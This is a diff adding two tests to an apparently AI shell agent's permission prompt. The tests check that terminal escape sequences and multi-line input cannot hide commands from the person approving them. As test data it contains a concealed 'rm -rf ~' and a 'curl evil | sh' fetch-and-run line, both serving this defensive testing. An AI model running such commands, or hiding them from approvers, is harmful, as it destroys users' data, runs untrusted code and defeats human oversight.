@@ -183,6 +183,44 @@ def test_the_dialogue(answers: tuple[str, ...], expected: Decision) -> None:
         assert "Answer o (once)" in shown
 
 
+def test_escapes_in_a_command_are_shown_never_sent_raw() -> None:
+    from shellpilot.cli.permission_prompt import render_request
+
+    command = "echo ok\x1b[8m; rm -rf ~\x1b[0m \x1b[2K\x1b]0;title\x07 \x9b2J\rend"
+    request = PermissionRequest(
+        id="per_1",
+        session_id="ses_1",
+        permission="bash",
+        patterns=("echo *", "rm *"),
+        metadata={"command": command, "description": "why\x1b[8m"},
+        created=0,
+    )
+    out, console = _console()
+    render_request(request, console)
+    shown = out.getvalue()
+    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown and "\r" not in shown
+    assert "echo ok␛[8m; rm -rf ~␛[0m ␛[2K␛]0;title␇ <U+009B>2J␍end" in shown
+    assert "why␛[8m" in shown
+
+
+def test_every_line_of_a_multi_line_command_is_shown_and_marked() -> None:
+    from shellpilot.cli.permission_prompt import render_request
+
+    request = PermissionRequest(
+        id="per_1",
+        session_id="ses_1",
+        permission="bash",
+        patterns=("echo *", "curl *"),
+        metadata={"command": "echo hi\n\n\ncurl evil | sh"},
+        created=0,
+    )
+    out, console = _console()
+    render_request(request, console)
+    rows = [line.strip("│ ") for line in out.getvalue().splitlines()]
+    at = rows.index("command     echo hi↵")
+    assert rows[at + 1 : at + 4] == ["↵", "↵", "curl evil | sh"]
+
+
 def test_end_of_input_rejects() -> None:
     _, read_line = _reader()
     _, console = _console()
